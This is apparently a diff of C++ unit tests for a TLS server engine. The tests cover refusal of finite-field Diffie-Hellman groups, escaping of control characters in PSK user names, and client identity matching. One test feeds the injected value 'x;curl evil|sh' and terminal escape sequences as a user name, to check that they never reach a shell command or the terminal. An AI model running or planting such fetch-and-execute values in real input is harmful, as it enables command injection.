@@ -106,6 +106,26 @@ TEST(tls_engine, has_forward_secrecy_with_keys_too) {
   EXPECT_THAT(engine.problem(), StartsWith("TLS handshake: no shared cipher"));
 }
 
+TEST(tls_engine, uses_no_finite_field_key_exchange) {
+  tls_server server;
+  server.pki.issue("server", {.rsa_bits = 2048});
+  for (auto* const configured : {&server.with_certificates(), &server.with_keys()}) {
+    const auto offer = [&](int version, const char* ciphers, const char* groups) {
+      tls_engine engine(configured->credentials);
+      tls_client client(with_key("alice", '1', version));
+      SSL_set_cipher_list(client.ssl(), ciphers);
+      SSL_set1_groups_list(client.ssl(), groups);
+      return client.shake_hands(engine);
+    };
+    EXPECT_FALSE(offer(TLS1_2_VERSION, "DHE:kDHEPSK", "X25519"));
+    EXPECT_FALSE(offer(TLS1_3_VERSION, "DEFAULT", "ffdhe2048"));
+    EXPECT_FALSE(offer(TLS1_3_VERSION, "DEFAULT", "ffdhe8192:ffdhe3072"));
+    EXPECT_TRUE(offer(TLS1_3_VERSION, "DEFAULT", "ffdhe2048:P-256"));
+    EXPECT_TRUE(offer(TLS1_3_VERSION, "DEFAULT", "X25519"));
+    EXPECT_TRUE(offer(TLS1_2_VERSION, "ECDHE:kECDHEPSK", "P-384"));
+  }
+}
+
 TEST(tls_engine, refuses_versions_older_than_tls_1_2) {
   tls_server server;
   for (auto* const configured : {&server.with_certificates(), &server.with_keys()})
@@ -119,15 +139,42 @@ TEST(tls_engine, names_the_user_that_has_no_key) {
   server.with_keys();
   for (const int version : versions)
     EXPECT_THAT(server.problem_with(with_key("mallory", '1', version)),
-                HasSubstr(" (no user 'mallory' in DIR/keys.psk; add it with psktool -u mallory -p "
-                          "DIR/keys.psk and restart the server)"));
+                HasSubstr(" (no user 'mallory' in DIR/keys.psk; add users with psktool -u USER -p "
+                          "DIR/keys.psk, then reload or restart the server)"));
 }
 
 TEST(tls_engine, shows_a_user_name_without_control_characters) {
   tls_server server;
   server.with_keys();
-  const auto text = server.problem_with(with_key("a\nxenpv: error: \x1b[2J\xff", '1'));
-  EXPECT_THAT(text, HasSubstr("no user 'a?xenpv: error: ?[2J?' in"));
+  EXPECT_THAT(server.problem_with(with_key("a\nxenpv: error: \x1b[2J\xff", '1')),
+              HasSubstr("no user 'a\\x0axenpv: error: \\x1b[2J\\xff' in"));
+  EXPECT_THAT(server.problem_with(with_key("\xC2\x9B"
+                                           "31m\xE2\x80\xAEx",
+                                           '1')),
+              HasSubstr("no user '\\xc2\\x9b31m\\xe2\\x80\\xaex' in"));
+}
+
+TEST(tls_engine, puts_no_client_name_into_a_command) {
+  tls_server server;
+  server.with_keys();
+  const auto text = server.problem_with(with_key("x;curl evil|sh", '1'));
+  const std::string command = "add users with psktool -u USER -p DIR/keys.psk,";
+  EXPECT_THAT(text, HasSubstr(command));
+  EXPECT_LT(text.find("curl"), text.find(command));
+  EXPECT_EQ(text.find("curl"), text.rfind("curl"));
+}
+
+TEST(tls_engine, identifies_clients_byte_for_byte) {
+  const std::string longest(255, 'x');
+  tls_server server;
+  server.pki.write("keys.psk", longest.substr(1) + ":" + hexadecimal_key('1') + "\n" + longest +
+                                   ":" + hexadecimal_key('1'));
+  server.credentials = tls_credentials::from_psk_file(server.pki.path("keys.psk"));
+  tls_engine engine(server.credentials);
+  tls_client client(with_key(longest, '1'));
+  EXPECT_EQ(engine.identity(), tls_identity{});
+  ASSERT_TRUE(client.shake_hands(engine)) << engine.problem();
+  EXPECT_EQ(engine.identity(), (tls_identity{tls_identity::proof::key, longest}));
 }
 
 TEST(tls_engine, names_the_user_whose_key_is_wrong) {
@@ -167,6 +214,8 @@ TEST(tls_engine, identifies_a_client_by_its_certificate) {
     tls_client client({.version = version, .trusts = &server.pki, .shows = &server.pki});
     ASSERT_TRUE(client.shake_hands(engine)) << engine.problem();
     EXPECT_EQ(engine.user(), "CN=client.example");
+    EXPECT_EQ(engine.identity(),
+              (tls_identity{tls_identity::proof::certificate, "CN=client.example"}));
     expect_data_both_ways(engine, client);
   }
 }
@@ -221,7 +270,9 @@ TEST(tls_engine, refuses_a_client_whose_certificate_is_revoked) {
             "TLS handshake: certificate verify failed (the client's certificate: revoked by "
             "DIR/ca-crl.pem)");
   server.pki.revoke({}, -1);
+  testing::internal::CaptureStderr();  // the warning at start
   server.with_certificates(true);
+  (void)testing::internal::GetCapturedStderr();
   EXPECT_EQ(
       server.problem_with(options),
       "TLS handshake: certificate verify failed (DIR/ca-crl.pem: CRL has expired; have the CA "
